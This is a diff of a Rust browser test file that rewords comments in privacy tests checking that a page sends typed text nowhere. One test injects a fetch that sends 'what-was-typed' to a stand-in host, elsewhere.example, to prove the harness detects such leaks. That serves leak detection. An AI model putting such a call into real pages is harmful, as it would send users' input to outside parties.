@@ -1,4 +1,4 @@
-//! What is typed goes nowhere.
+//! Typed text is sent nowhere.
 
 use std::time::Instant;
 
@@ -17,7 +17,7 @@ fn after_loading_nothing_is_fetched() {
         bilingual(&page).await;
         page.write("warm up").await;
         page.settled(SOON).await;
-        // Until the page has put itself aside for the next visit.
+        // The page fetches files for the next visit.
         kept(&page).await;
         let before = page.site.requests();
         for posts in TEXTS {
@@ -34,7 +34,7 @@ fn after_loading_nothing_is_fetched() {
         page.click("//footer//summary").await;
         let since = || page.site.requests().split_off(before.len());
         let after_loading: Vec<String> = (since().into_iter())
-            // Whether there is a newer version.
+            // The browser checks for a new version.
             .filter(|address| address != SERVICE_WORKER && !of_the_browser(address))
             .collect();
         assert_eq!(after_loading, [""; 0]);
@@ -43,7 +43,7 @@ fn after_loading_nothing_is_fetched() {
 
 #[test]
 fn a_request_to_another_host_would_be_noticed() {
-    // From a page without the policy that forbids it.
+    // The page's policy forbids such requests, so this is another page.
     let visit = Visit::default().instead("open.html", b"<!doctype html>".to_vec());
     visit.open("open.html").run(async |page| {
         page.script("fetch('http://elsewhere.example/?what-was-typed').catch(() => {})")
@@ -56,7 +56,7 @@ fn a_request_to_another_host_would_be_noticed() {
     });
 }
 
-/// Chromium asks its maker's hosts this and that, whatever the page.
+/// Whether a request is Chromium's own, which it sends to its maker's hosts on any page.
 fn of_the_browser(address: &str) -> bool {
     let host = address.trim_start_matches("http://");
     let host = host.split(['/', ':']).next().unwrap_or_default();
